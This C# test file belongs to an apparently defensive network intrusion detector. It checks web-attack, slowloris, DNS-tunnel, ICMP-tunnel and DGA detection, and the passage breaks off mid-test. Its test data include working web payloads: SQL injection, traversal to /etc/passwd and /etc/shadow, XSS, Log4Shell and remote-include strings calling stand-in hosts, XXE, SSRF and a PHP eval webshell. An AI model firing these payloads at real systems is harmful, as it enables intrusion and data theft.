using NetHawk.Core.Detectors.Dga;
using NetHawk.Core.Detectors.DnsTunnel;
using NetHawk.Core.Detectors.SlowDos;
using NetHawk.Core.Detectors.WebAttack;
using NetHawk.Core.Flows;
using NetHawk.Core.Packets;
using NetHawk.Core.Peek;
using NetHawk.Core.Verdicts;

namespace NetHawk.Tests.Detectors;

public class ApplicationDetectorTests
{
    private const string Client = "10.0.0.7";
    private const string Server = "203.0.113.80";

    private static HttpRequest Get(string target, string agent = "Mozilla/5.0", bool complete = true) => new("GET", target, "www.example", agent, complete, false, -1, "");

    private static Events Ask(Events run, string name, ushort type = 1, byte code = 0, int bytes = 80, string server = "9.9.9.9")
    {
        var flow = run.Flow(Client, server, 53, IpProtocol.Udp);
        flow.Application = AppProtocol.Dns;
        flow.Peek = new DnsMessage(1, false, name, type, 0, 0, 40 + name.Length, []);
        run.Send(flow, FlowEventKind.Application);
        flow.Peek = new DnsMessage(1, true, name, type, code, 1, bytes, []) { FromResponder = true };
        return run.Send(flow, FlowEventKind.Application);
    }

    [Theory]
    [InlineData("/item?id=1%27%20OR%20%271%27=%271")]
    [InlineData("/item?id=1+union/**/select+1,2,user()--")]
    [InlineData("/item?id=1%2527%2520and%25201=1%23")]
    [InlineData("/item?id=1;waitfor delay '0:0:5'--")]
    [InlineData("/item?id=sleep(5)")]
    [InlineData("/get?f=..%252f..%252f..%252fetc%252fpasswd")]
    [InlineData("/get?f=..%c0%af..%c0%af/boot.ini")]
    [InlineData("/get?page=php://filter/convert.base64-encode/resource=index")]
    [InlineData("/q?s=%3Cscript%3Ealert(1)%3C/script%3E")]
    [InlineData("/q?s=<img src=x onerror=alert(1)>")]
    [InlineData("/ping?host=127.0.0.1;cat /etc/shadow")]
    [InlineData("/ping?host=`id`")]
    [InlineData("/?x=${jndi:ldap://198.51.100.1/a}")]
    [InlineData("/?x=$%7B%24%7Blower:j%7Dndi:ldap://x/a%7D")]
    [InlineData("/.git/config")]
    [InlineData("/backup/.env")]
    [InlineData("/item?id=1;DROP%20TABLE%20users")]
    [InlineData("/item?name=admin%27--%20-")]
    [InlineData("/go?url=javascript:alert(document.domain)")]
    [InlineData("/fetch?url=http://169.254.169.254/latest/meta-data/")]
    [InlineData("/hello?name={{7*7}}")]
    [InlineData("/hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D")]
    [InlineData("/login?user[$ne]=x&pass[$ne]=x")]
    [InlineData("/i.php?d=O:8:%22stdClass%22:1:{s:3:%22cmd%22;s:2:%22id%22;}")]
    [InlineData("/index.php?page=http://198.51.100.9/shell.txt")]
    [InlineData("/tmui/login.jsp/..;/tmui/locallb/x.jsp")]
    public void Attack_patterns_are_found_through_encodings(string target)
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get(target));
        Assert.Equal(ThreatClass.WebAttack, Assert.Single(run.Found).Class);
        Assert.False(run.Found[0].Decisive);
    }

    private static HttpRequest Post(string target, string body) => new("POST", target, "shop.example", "Mozilla/5.0", true, false, body.Length, body);

    [Theory]
    [InlineData("user=admin'--&pass=x")]
    [InlineData("{\"user\":{\"$ne\":null},\"pass\":{\"$ne\":null}}")]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")]
    [InlineData("name=a&msg=%3Cscript%3Ealert%281%29%3C%2Fscript%3E")]
    [InlineData("z0=QGluaV9zZXQ&pass=@eval(base64_decode($_POST[z0]));")]
    public void Attack_patterns_are_found_in_bodies(string body)
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Post("/form", body));
        Assert.Equal(ThreatClass.WebAttack, Assert.Single(run.Found).Class);
    }

    [Theory]
    [InlineData("text=I+said+it's+fine+--+really&name=o'brien")]
    [InlineData("{\"filter\":{\"age\":{\"$gt\":5}},\"user\":\"bob\"}")]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"x.dtd\"><a/>")]
    [InlineData("html=<p onclick=\"toggle(this)\">read on</p><script src=/site.js></script>")]
    [InlineData("code=for+i+in+range(10):+print(i*2)&lang=python")]
    public void Honest_bodies_are_left_alone(string body)
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Post("/form", body));
        Assert.Empty(run.Found);
    }

    [Theory]
    [InlineData("/search?q=credit+union+select+account+type")]
    [InlineData("/api/users?age[$gt]=5&$limit=10")]
    [InlineData("/page?note=it%27s%20--%20well%20--%20fine")]
    [InlineData("/oauth?redirect_uri=http://127.0.0.1:8400/callback.php")]
    [InlineData("/viewer?file=https://docs.example/manual.pdf&page=3")]
    [InlineData("/tpl?name={{user}}&size=${width}*2")]
    [InlineData("/help?topic=javascript:+the+good+parts")]
    [InlineData("/calc?f=drop;table;chair")]
    [InlineData("/search?q=o%27reilly+and+sons")]
    [InlineData("/search?q=rock+%27n%27+roll")]
    [InlineData("/recaptcha/api.js?onload=onloadCallback&render=explicit")]
    [InlineData("/ad?u=https%3A%2F%2Fwww.example%2Fpage%3Fa%3D1%26b%3D2&r=%7B%22k%22%3A%5B1%2C2%5D%7D")]
    [InlineData("/wiki/C++?action=edit#section")]
    [InlineData("/api/v1/items?filter=(price>10)and(name='x')&$orderby=id")]
    [InlineData("/img/a..b/photo(1).jpg")]
    [InlineData("/select/from/catalogue?sleep=8h&order=by")]
    [InlineData("/blog/how-to-use-cat-and-ls;jsessionid=12AB")]
    public void Honest_requests_that_look_odd_are_left_alone(string target)
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get(target));
        Assert.Empty(run.Found);
    }

    [Theory]
    [InlineData("/ac/{0:x16}9f86d081884c7d659a2feaa0c55ad015", false)]
    [InlineData("/v2/shop/blobs/sha256:{0:x16}9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15", false)]
    [InlineData("/buildid/{0:x8}9f86d081884c7d659a2feaa0c55ad015/debuginfo", false)]
    [InlineData("/repository/central/org/example/part{0}/1.{0}/part{0}-1.{0}.pom", false)]
    [InlineData("/tiles/14/{0}/5461", false)]
    [InlineData("/media/x{0:x8}.jpg", false)]
    [InlineData("/backup{0}.zip", true)]
    [InlineData("/a/b/c/d/e/admin{0}.php?x=9f86d081884c7d659a2feaa0c55ad015", true)]
    public void Cold_caches_ask_in_vain_for_what_no_list_of_guesses_holds(string target, bool isAttack)
    {
        var miss = new HttpResponse(404, "nginx", 10) { FromResponder = true };
        var run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 0; i < 200; i++) run.Session(Client, Server, 80, 0.05, application: AppProtocol.Http, peeks: [Get(string.Format(System.Globalization.CultureInfo.InvariantCulture, target, i)), miss]);
        Assert.Equal(isAttack, run.Found.Count > 0);
    }

    [Theory]
    [InlineData("/panel/{1}", true, true)]
    [InlineData("/panel/{1}", false, false)]
    [InlineData("/api/products/{0}", false, true)]
    public void Browsers_with_a_lost_session_and_programs_that_count_are_watched(string target, bool isBrowser, bool watched)
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 0; i < 200; i++)
        {
            var request = Get(string.Format(System.Globalization.CultureInfo.InvariantCulture, target, i, new string((char)('a' + i % 26), 1 + i / 26))) with { HasContext = isBrowser, HasLanguage = isBrowser };
            run.Session(Client, Server, 80, 0.05, application: AppProtocol.Http, peeks: [request, new HttpResponse(404, "nginx", 10) { FromResponder = true }]);
        }

        Assert.NotEmpty(run.Found);
        Assert.All(run.Found, e => Assert.Equal(watched, e.WatchOnly is not null));
    }

    [Fact]
    public void Who_mostly_reads_is_not_blocked_fully_for_a_few_odd_requests_and_articles_are_watched()
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 0; i < 60; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get($"/page{i}.html"));
        for (int i = 0; i < 5; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get($"/?id={i}' or '{i}'='{i}"));
        Assert.NotEmpty(run.Found);
        Assert.All(run.Found, e => Assert.True(!e.Decisive && e.WatchOnly is not null));
        for (int i = 5; i < 30; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get($"/?id={i}' or '{i}'='{i}"));
        Assert.True(run.Found[^1] is { Decisive: true, WatchOnly: null, SoftOnly: null });

        run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 0; i < 40; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Post("/forum", $"text=A+page+{i}+shows+<script>alert({i})</script>+when+it+does+not+escape+what+people+write"));
        Assert.NotEmpty(run.Found);
        Assert.All(run.Found, e => Assert.True(!e.Decisive && e.WatchOnly is not null));
    }

    [Theory]
    [InlineData(true, 40, true)]
    [InlineData(true, -1, false)]
    [InlineData(false, 40, false)]
    public void A_body_with_two_lengths_is_no_browsers(bool chunked, long length, bool found)
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get("/") with { Method = "POST", IsChunked = chunked, ContentLength = length });
        Assert.Equal(found, run.Found.Count == 1);
    }

    [Fact]
    public void A_program_that_writes_two_lengths_each_time_is_told_once()
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 0; i < 40; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get($"/upload/{i}") with { Method = "POST", IsChunked = true, ContentLength = 15 });
        Assert.True(Assert.Single(run.Found) is { Decisive: false, LogOdds: < 3 });
    }

    [Fact]
    public void Several_different_attack_requests_are_decisive_and_repetition_is_not()
    {
        var run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 0; i < 20; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get("/?id=1' or '1'='1"));
        Assert.Single(run.Found);
        for (int i = 0; i < 3; i++) run.Session(Client, Server, 80, application: AppProtocol.Http, peeks: Get($"/?id={i}' or '{i}'='{i}"));
        Assert.True(run.Found[^1].Decisive);
    }

    [Fact]
    public void Twenty_different_misses_in_a_burst_are_probing_and_a_crawlers_dead_links_are_not()
    {
        var miss = new HttpResponse(404, "nginx", 10) { FromResponder = true };
        var hit = new HttpResponse(200, "nginx", 10) { FromResponder = true };
        var run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 0; i < 19; i++) run.Session(Client, Server, 80, 0.1, application: AppProtocol.Http, peeks: [Get($"/x{i}"), miss]);
        Assert.Empty(run.Found);
        run.Session(Client, Server, 80, 0.1, application: AppProtocol.Http, peeks: [Get("/x20"), miss]);
        Assert.Single(run.Found);

        run = new Events(new WebAttackDetector(Events.Context()));
        for (int i = 0; i < 400; i++) run.Session(Client, Server, 80, 0.1, application: AppProtocol.Http, peeks: [Get($"/y{i}"), i % 3 == 0 ? miss : hit]);
        for (int i = 0; i < 400; i++) run.Session("10.0.0.8", Server, 80, 0.1, application: AppProtocol.Http, peeks: [Get("/favicon.ico"), miss]);
        Assert.Empty(run.Found);
    }

    [Fact]
    public void Old_links_followed_at_leisure_are_watched_at_most_and_a_list_of_guesses_is_blocked()
    {
        var miss = new HttpResponse(404, "nginx", 10) { FromResponder = true };
        var hit = new HttpResponse(200, "nginx", 10) { FromResponder = true };
        Events Visit(double seconds, int oneInHits)
        {
            var run = new Events(new WebAttackDetector(Events.Context()));
            for (int i = 0; i < 300; i++) run.Session(Client, Server, 80, seconds, application: AppProtocol.Http, peeks: [Get($"/blog/{new string((char)('a' + i % 26), 1 + i / 26)}.html"), i % oneInHits == 0 ? hit : miss]);
            return run;
        }

        Assert.All(Visit(0.7, 4).Found, e => Assert.True(e.LogOdds < 2 && e.WatchOnly is not null));
        Assert.All(Visit(0.7, 400).Found, e => Assert.True(e is { Decisive: false, WatchOnly: not null }));
        Assert.Contains(Visit(0.05, 400).Found, e => e is { Decisive: true, WatchOnly: null });
    }

    private static FlowEvent Hold(Events run, string source, HttpRequest? request)
    {
        var flow = run.Flow(source, Server, 80);
        flow.Handshake = HandshakeState.Proven;
        run.Send(flow, FlowEventKind.Established);
        flow.Forward.DataPackets = 1;
        flow.Forward.PayloadBytes = 200;
        flow.Peek = request;
        if (request is not null) run.Send(flow, FlowEventKind.Application);
        return flow;
    }

    [Fact]
    public void Five_headers_unfinished_for_ten_seconds_are_slowloris_and_four_are_not()
    {
        var run = new Events(new SlowDosDetector(Events.Context()));
        for (int i = 0; i < 4; i++) Hold(run, Client, Get("/", complete: false));
        run.Wait(30);
        Assert.Empty(run.Found);
        Hold(run, Client, Get("/", complete: false));
        run.Wait(9);
        Assert.Empty(run.Found);
        run.Wait(3);
        Assert.Equal(ThreatClass.SlowDos, Assert.Single(run.Found).Class);
    }

    [Fact]
    public void Bodies_in_chunks_that_trickle_hold_the_server_too_and_answered_ones_do_not()
    {
        foreach (bool answered in new[] { false, true })
        {
            var run = new Events(new SlowDosDetector(Events.Context()));
            for (int i = 0; i < 12; i++)
            {
                var flow = Hold(run, Client, Get("/signin") with { Method = "POST", IsChunked = true });
                flow.Peek = new HttpResponse(200, "", 5) { FromResponder = true };
                if (answered) run.Send(flow, FlowEventKind.Application);
            }

            run.Wait(12);
            Assert.Equal(answered ? 0 : 1, run.Found.Count);
        }
    }

    [Theory]
    [InlineData(4, true)]
    [InlineData(1000, false)]
    public void A_body_in_chunks_that_goes_on_trickling_is_told_from_a_stream(int bytesASecond, bool found)
    {
        var run = new Events(new SlowDosDetector(Events.Context()));
        var flows = Enumerable.Range(0, 12).Select(_ => Hold(run, Client, Get("/log") with { Method = "POST", IsChunked = true })).ToList();
        for (int second = 1; second <= 12; second++)
        {
            run.Wait(1);
            foreach (var flow in flows)
            {
                var more = flow;
                more.Forward.PayloadBytes = 200 + bytesASecond * second;
                more.Forward.DataPackets = 1 + second;
                run.Send(more, FlowEventKind.Checkpoint);
            }
        }

        Assert.Equal(found, run.Found.Count > 0);
    }

    [Theory]
    [InlineData(3, 60, false)]
    [InlineData(6, 300, false)]
    [InlineData(6, 36, true)]
    public void A_body_in_chunks_that_came_at_once_or_in_lines_waits_for_its_answer(int pieces, int bytes, bool found)
    {
        var run = new Events(new SlowDosDetector(Events.Context()));
        for (int i = 0; i < 16; i++)
        {
            var flow = Hold(run, Client, Get("/poll") with { Method = "POST", IsChunked = true });
            flow.Peek = new HttpBody("");
            flow.Forward.PayloadBytes += bytes;
            flow.Forward.DataPackets += pieces;
            run.Send(flow, FlowEventKind.Application);
        }

        run.Wait(30);
        Assert.Equal(found, run.Found.Count > 0);
    }

    [Theory]
    [InlineData(1, true)]
    [InlineData(2, false)]
    public void A_command_that_never_ends_holds_a_greeted_connection(int answers, bool found)
    {
        var run = new Events(new SlowDosDetector(Events.Context()));
        for (int i = 0; i < 24; i++)
        {
            var flow = run.Flow(Client, Server, 25);
            flow.Handshake = HandshakeState.Proven;
            run.Send(flow, FlowEventKind.Established);
            flow.Application = AppProtocol.Smtp;
            flow.Peek = new Banner(AppProtocol.Smtp, "220 mx") { FromResponder = true };
            flow.Backward = new DirectionCounts { Packets = 2, DataPackets = 1, PayloadBytes = 30 };
            run.Send(flow, FlowEventKind.Application);
            flow.Peek = null;
            flow.Forward = new DirectionCounts { Packets = 6, DataPackets = 5, PayloadBytes = 8 };
            flow.Backward = new DirectionCounts { Packets = 6, DataPackets = answers, PayloadBytes = 30 * answers };
            run.Send(flow, FlowEventKind.Checkpoint);
        }

        run.Wait(12);
        Assert.Equal(found, run.Found.Count > 0);
    }

    [Fact]
    public void Twenty_connections_that_were_greeted_and_go_no_further_hold_a_server_and_sessions_do_not()
    {
        foreach ((int connections, bool goesOn, int found) in new[] { (20, false, 1), (19, false, 0), (60, true, 0) })
        {
            var run = new Events(new SlowDosDetector(Events.Context()));
            for (int i = 0; i < connections; i++)
            {
                var flow = run.Flow(Client, Server, 22);
                run.Send(flow, FlowEventKind.Opened);
                flow.Handshake = HandshakeState.Proven;
                run.Send(flow, FlowEventKind.Established);
                flow.Application = AppProtocol.Ssh;
                flow.Peek = new Banner(AppProtocol.Ssh, "SSH-2.0-client");
                flow.Forward = new DirectionCounts { Packets = 3, DataPackets = 1, PayloadBytes = 21 };
                run.Send(flow, FlowEventKind.Application);
                flow.Peek = new Banner(AppProtocol.Ssh, "SSH-2.0-OpenSSH_9.2") { FromResponder = true };
                flow.Backward = new DirectionCounts { Packets = 3, DataPackets = 1, PayloadBytes = 40 };
                run.Send(flow, FlowEventKind.Application);
                flow.Peek = null;
                flow.Forward = new DirectionCounts { Packets = 4, DataPackets = goesOn ? 3 : 1, PayloadBytes = goesOn ? 1700 : 21 };
                flow.Backward = new DirectionCounts { Packets = 5, DataPackets = 2, PayloadBytes = 1200 };
                run.Send(flow, FlowEventKind.Checkpoint);
            }

            run.Wait(12);
            Assert.Equal(found, run.Found.Count);
        }
    }

    [Fact]
    public void Long_polling_uploads_and_answered_connections_are_patient_but_honest()
    {
        var run = new Events(new SlowDosDetector(Events.Context()));
        for (int i = 0; i < 100; i++) Hold(run, Client, Get("/poll"));
        for (int i = 0; i < 30; i++)
        {
            var upload = Hold(run, "10.0.0.8", Get("/") with { Method = "POST", ContentLength = 50_000_000 });
            upload.Forward.PayloadBytes = 5_000_000;
            upload.Forward.DataPackets = 4000;
            run.Send(upload, FlowEventKind.Checkpoint);
        }

        for (int i = 0; i < 30; i++)
        {
            var answered = Hold(run, "10.0.0.9", Get("/", complete: false));
            answered.Peek = new HttpResponse(200, "", 5) { FromResponder = true };
            run.Send(answered, FlowEventKind.Application);
        }

        run.Wait(60);
        Assert.Empty(run.Found);
    }

    /// <summary>A server that refuses a form before its body is there, and waits for the rest: who goes on letter by letter is told while he does. Who gives up, or sends the rest in segments over a bad line, is not.</summary>
    [Theory]
    [InlineData(12, 12, 12, 1)]
    [InlineData(8, 12, 12, 0)]
    [InlineData(40, 0, 0, 0)]
    [InlineData(40, 3, 3 * 536, 0)]
    public void Bodies_that_trickle_on_after_the_answer_are_slow_posts(int connections, int pieces, int sent, int found)
    {
        var run = new Events(new SlowDosDetector(Events.Context()));
        for (int i = 0; i < connections; i++)
        {
            var flow = Hold(run, Client, Get("/") with { Method = "POST", ContentLength = 10_000 });
            flow.Peek = new HttpResponse(405, "", 5) { FromResponder = true };
            run.Send(flow, FlowEventKind.Application);
            flow.Forward.PayloadBytes += sent;
            flow.Forward.DataPackets += pieces;
            flow.Backward = new DirectionCounts { Packets = pieces + 2, DataPackets = 1, PayloadBytes = 400 };
            flow.Peek = null;
            run.Send(flow, FlowEventKind.Checkpoint);
        }

        run.Wait(12);
        Assert.Equal(found, run.Found.Count);
    }

    [Theory]
    [InlineData(10, 4096, 12, 5, 405, 1)]
    [InlineData(10, 4096, 12, 5, 0, 1)]
    [InlineData(9, 4096, 12, 5, 405, 0)]
    [InlineData(30, 4096, 12, 1, 405, 0)]
    [InlineData(30, 4096, 4096, 6, 405, 0)]
    [InlineData(30, 4_000_000, 1_500_000, 6, 413, 0)]
    public void Bodies_that_trickle_until_the_server_hangs_up_are_slow_posts_and_refused_uploads_are_not(int connections, int announced, int sent, int seconds, int status, int found)
    {
        var run = new Events(new SlowDosDetector(Events.Context()));
        for (int i = 0; i < connections; i++)
        {
            var flow = Hold(run, Client, Get("/") with { Method = "POST", ContentLength = announced });
            flow.Handshake = HandshakeState.Proven;
            flow.Peek = new HttpResponse(status, "", 5) { FromResponder = true };
            if (status > 0) run.Send(flow, FlowEventKind.Application);
            run.Wait(seconds);
            flow.Forward.PayloadBytes += sent;
            flow.Peek = null;
            run.Send(flow, FlowEventKind.Closed);
        }

        Assert.Equal(found, run.Found.Count);
    }

    [Fact]
    public void Slowloris_from_many_sources_is_one_threat_without_a_source()
    {
        var run = new Events(new SlowDosDetector(Events.Context()));
        for (int i = 1; i <= 100; i++)
            for (int again = 0; again < 7; again++) Hold(run, $"198.51.100.{i}", Get("/", complete: false));
        run.Wait(12);
        var found = Assert.Single(run.Found);
        Assert.Null(found.Source);
        Assert.Equal(100, found.SourceCount);
    }

    [Fact]
    public void Tunnels_in_dns_are_found_by_types_or_by_long_dense_names()
    {
        var run = new Events(new DnsTunnelDetector(Events.Context()));
        for (int i = 0; i < 25; i++) Ask(run, $"{i:x4}a7c93fe0b1d24.t.example", type: 16);
        Assert.Single(run.Found);

        run = new Events(new DnsTunnelDetector(Events.Context()));
        var random = new Random(3);
        for (int i = 0; i < 80; i++) Ask(run, string.Concat(Enumerable.Range(0, 40).Select(_ => "abcdefghijklmnopqrstuvwxyz234567"[random.Next(32)])) + ".example.com");
        Assert.Single(run.Found);
    }

    [Theory]
    [InlineData(60, true)]
    [InlineData(40, false)]
    public void A_few_dozen_names_count_where_they_are_full_of_data(int length, bool shown)
    {
        var run = new Events(new DnsTunnelDetector(Events.Context()));
        var random = new Random(3);
        for (int i = 0; i < 35; i++)
        {
            Ask(run, "beef.ns1.metrics.example");
            Ask(run, string.Concat(Enumerable.Range(0, length).Select(_ => "0123456789abcdef"[random.Next(16)])) + ".ns1.metrics.example");
        }

        Assert.Equal(shown, run.Found.Count > 0);
        Assert.All(run.Found, e => Assert.NotNull(e.WatchOnly));
    }

    /// <summary>A tunnel that idles says little but hello. Who tries all types asks for one name; a mail server's checks are none of these types; a word or two carry nothing.</summary>
    [Theory]
    [InlineData(10, "laa41f3tl4x3trw10n", 14, true)]
    [InlineData(65399, "laa41f3tl4x3trw10n", 14, true)]
    [InlineData(10, "laa41f3tl4x3trw10n", 1, false)]
    [InlineData(16, "laa41f3tl4x3trw10n", 14, false)]
    [InlineData(10, "host", 14, false)]
    public void A_dozen_names_of_types_that_no_program_asks_for_are_watched(int type, string name, int names, bool shown)
    {
        var run = new Events(new DnsTunnelDetector(Events.Context()));
        for (int i = 0; i < 14; i++) Ask(run, $"{name}{i % names}.t.tunnel.example", type: (ushort)type);
        Assert.Equal(shown, run.Found.Count > 0);
        Assert.All(run.Found, e => Assert.NotNull(e.WatchOnly));
    }

    [Fact]
    public void What_was_watched_early_is_told_again_as_soon_as_there_are_names_enough()
    {
        var run = new Events(new DnsTunnelDetector(Events.Context()));
        for (int i = 0; i < 25; i++) Ask(run, $"{i:x4}a7c93fe0b1d24.t.example", type: 10);
        Assert.Equal([false, true], run.Found.Select(e => e.WatchOnly is null));
    }

    [Fact]
    public void A_server_that_resolves_other_names_is_never_to_blame()
    {
        var run = new Events(new DnsTunnelDetector(Events.Context()));
        Ask(run, "www.example.org");
        for (int i = 0; i < 200; i++) Ask(run, $"{i:x4}a7c93fe0b1d24fa7c93fe0b1d24.t.example.com", type: 16);
        Assert.All(run.Found, e => Assert.NotNull(e.WatchOnly));
        Assert.NotEmpty(run.Found);
    }

    [Fact]
    public void Block_lists_mail_checks_and_content_networks_are_no_tunnels()
    {
        var run = new Events(new DnsTunnelDetector(Events.Context()));
        for (int i = 0; i < 500; i++)
        {
            Ask(run, $"{i % 250}.{i % 7}.51.198.zen.blocklist.example");
            Ask(run, $"customer{i}.example{i}.com", type: 16);
            Ask(run, $"{i}.51.100.198.in-addr.arpa", type: 12);
            Ask(run, $"2.dnscrypt-cert.resolver{i % 50}-se", type: 16);
            Ask(run, $"r{i % 40}---sn-h0jeen7{i % 9}.video.example");
        }

        Assert.Empty(run.Found);
    }

    [Fact]
    public void Echo_whose_replies_do_not_repeat_the_request_is_a_tunnel_and_ping_is_not()
    {
        static FlowEvent Echo(Events run, int count, Func<int, int> up, Func<int, int> down)
        {
            var flow = run.Flow(Client, Server, 0, IpProtocol.Icmp);
            flow.IcmpType = 8;
            for (int i = 0; i < count; i++)
            {
                flow.Forward.Packets++;
                flow.Forward.PayloadBytes += up(i);
                flow.Backward.Packets++;
                flow.Backward.PayloadBytes += down(i);
                if (flow.EarlyCount > 14) continue;
                flow.Early[flow.EarlyCount++].SignedPayload = (short)up(i);
                flow.Early[flow.EarlyCount++].SignedPayload = (short)-down(i);
            }

            flow.Forward.Packets--;
            return flow;
        }

        var run = new Events(new IcmpTunnelDetector(Events.Context()));
        run.Send(Echo(run, 64, _ => 56, _ => 56), FlowEventKind.Checkpoint).Send(Echo(run, 500, _ => 1400, _ => 1400), FlowEventKind.Checkpoint);
        Assert.Empty(run.Found);

        // One echo flow for each connection carried, each too short to tell alone.
        run.Send(Echo(run, 5, i => 28 + i * 40, i => 30 + i * 70), FlowEventKind.Closed);
        Assert.Empty(run.Found);
        run.Send(Echo(run, 10, i => 28 + i * 40, i => 30 + i * 70), FlowEventKind.Closed);
        Assert.NotEmpty(run.Found);
        run = new Events(new IcmpTunnelDetector(Events.Context()));
        run.Send(Echo(run, 32, i => 50 + i * 31 % 400, i => 50 + i * 17 % 900), FlowEventKind.Checkpoint);
        Assert.Equal(ThreatClass.DnsTunnel, Assert.Single(run.Found).Class);
    }

    [Fact]
    public void Generated_names_that_do_not_exist_are_found()
    {
        string[] names = ["xqzvkjwpt", "bqpwxkzrt", "jxk4q9zvt", "qwzrtpxkv", "vbn3kxzqw", "zxjqkwvpt", "kqxz8vwrt", "pqzxwvkjt", "wxqzkvbpt", "tqxkzjvwp"];
        var run = new Events(new DgaDetector(Events.Context()));
        for (int i = 0; i < 9; i++) Ask(run, names[i] + ".com", code: 3);
        Assert.Empty(run.Found);
        Ask(run, names[9] + ".net", code: 3);
        Assert.Equal(ThreatClass.Malware, Assert.Single(run.Found).Class);
    }

    [Fact]
    public void Names_of_one_make_are_generated_however_well_they_can_be_said()
    {
        string[] parts = ["ta", "ve", "mo", "ri", "sa", "lu", "ne", "ko"];
        string Name(int i) => string.Concat(Enumerable.Range(0, 5).Select(j => parts[(i >> j) + j & 7]));
        var run = new Events(new DgaDetector(Events.Context()));
        for (int i = 0; i < 30; i++) Ask(run, Name(i) + (i % 2 == 0 ? ".com" : ".net"), code: 3);
        Assert.Contains("all of one length", Assert.Single(run.Found).Reason, StringComparison.Ordinal);

        // Old links: hosts before the domain, all endings, all lengths.
        run = new Events(new DgaDetector(Events.Context()));
        string[] endings = ["com", "net", "de", "fr", "org", "info"];
        for (int i = 0; i < 50; i++) Ask(run, $"{(i % 2 == 0 ? "www." : "")}{Name(i)[..(4 + i % 7)]}.{endings[i % 6]}", code: 3);
        Assert.Empty(run.Found);
    }

    /// <summary>A mail server asks for the policies of senders whom somebody has made up (SPF, DMARC, exchangers); who asks so many for their addresses looks for a master.</summary>
    [Theory]
    [InlineData(16, false)]
    [InlineData(15, false)]
    [InlineData(1, true)]
    [InlineData(28, true)]
    public void Policies_of_senders_who_do_not_exist_are_no_masters(int type, bool found)
    {
        var run = new Events(new DgaDetector(Events.Context()));
        for (int i = 0; i < 150; i++) Ask(run, $"sender{i}.example", type: (ushort)type, code: 3);
        Assert.Equal(found, run.Found.Count > 0);
    }

    [Fact]
    public void Typing_errors_search_suffixes_and_reverse_look_ups_are_not_generated()
    {
        var run = new Events(new DgaDetector(Events.Context()));
        foreach (string name in new[] { "gogle", "facebok", "wikipdia", "amazn", "newyorktime", "weathr", "linkdin", "yutube", "twiter", "instagran", "netflx", "spotfy" })
            Ask(run, name + ".com", code: 3);
        for (int i = 0; i < 100; i++)
        {
            Ask(run, $"printer.corp{i}.example", code: 3);
            Ask(run, $"{i}.2.0.192.in-addr.arpa", type: 12, code: 3);
        }

        Assert.Empty(run.Found);
    }

    [Theory]
    [InlineData(6, 48, ThreatClass.C2Beacon)]
    [InlineData(0.1, 1200, ThreatClass.DnsTunnel)]
    public void Echo_requests_that_say_something_else_each_time_are_watched(double pause, int bytes, ThreatClass expected)
    {
        var run = new Events(new IcmpTunnelDetector(Events.Context()));
        var flow = run.Flow("10.0.0.7", "203.0.113.80", 0, IpProtocol.Icmp);
        flow.IcmpType = 8;
        flow.Peek = ChangedEcho.Instance;
        for (int i = 1; i <= 7; i++)
        {
            flow.Forward = new DirectionCounts { Packets = i + 1, PayloadBytes = (i + 1) * bytes };
            flow.Backward = flow.Forward;
            run.Wait(pause).Send(flow, FlowEventKind.Application);
        }

        var found = Assert.Single(run.Found);
        Assert.Equal(expected, found.Class);
        Assert.NotNull(found.WatchOnly);
    }

    /// <summary>Each piece sent by a ping of its own. A monitor's pings, one process each, say the same every time; so do two that take turns until a third says something else.</summary>
    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Pings_that_each_say_something_else_are_watched(bool other)
    {
        var run = new Events(new IcmpTunnelDetector(Events.Context()));
        for (int i = 1; i <= 40; i++)
        {
            var flow = run.Flow("10.0.0.7", "203.0.113.80", 0, IpProtocol.Icmp);
            flow.IcmpType = 8;
            flow.Forward = new DirectionCounts { Packets = 1, PayloadBytes = 56 };
            flow.Peek = new EchoWords((ushort)(other ? 1000 + i : 1000));
            run.Wait(0.1).Send(flow, FlowEventKind.Application);
        }

        Assert.Equal(other, run.Found.Count > 0);
        Assert.All(run.Found, e => Assert.Equal((ThreatClass.DnsTunnel, true), (e.Class, e.WatchOnly is not null)));
    }

    [Theory]
    [InlineData(20, 10, true)]
    [InlineData(19, 10, false)]
    [InlineData(60, 1, false)]
    public void A_service_that_hangs_up_on_the_silent_again_and_again_is_held(int connections, double seconds, bool shown)
    {
        var run = new Events(new SlowDosDetector(Events.Context()));
        List<FlowEvent> flows = [];
        for (int i = 0; i < connections; i++)
        {
            var flow = run.Flow(Client, Server, 3306);
            run.Send(flow, FlowEventKind.Opened);
            flow.Handshake = HandshakeState.Proven;
            run.Send(flow, FlowEventKind.Established);
            flow.Backward = new DirectionCounts { Packets = 3, DataPackets = 1, PayloadBytes = 95 };
            run.Send(flow, FlowEventKind.Checkpoint);
            flows.Add(flow);
        }

        run.Wait(seconds - 1);
